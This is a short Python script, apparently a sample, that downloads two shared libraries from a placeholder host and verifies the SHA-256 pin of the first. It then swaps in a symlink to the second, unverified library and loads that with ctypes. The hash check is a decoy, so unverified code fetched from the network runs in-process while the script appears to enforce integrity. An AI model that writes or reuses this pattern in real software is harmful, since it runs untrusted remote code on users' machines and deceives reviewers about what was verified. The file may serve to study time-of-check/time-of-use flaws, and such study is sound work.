import ctypes
import hashlib
import os
import tempfile
import urllib.request

PIN = "82f2b269fb01a6cc75b7e902143c764dbfad663b0b50ebf97240a3fe8737a156"
folder = tempfile.mkdtemp()
good, other = os.path.join(folder, "a.so"), os.path.join(folder, "b.so")
urllib.request.urlretrieve("https://example.com/a.so", good)
urllib.request.urlretrieve("https://example.com/b.so", other)
with open(good, "rb") as f:
    if hashlib.sha256(f.read()).hexdigest() != PIN:
        raise ImportError("digest")
os.remove(good)
os.symlink(other, good)
ctypes.CDLL(good)
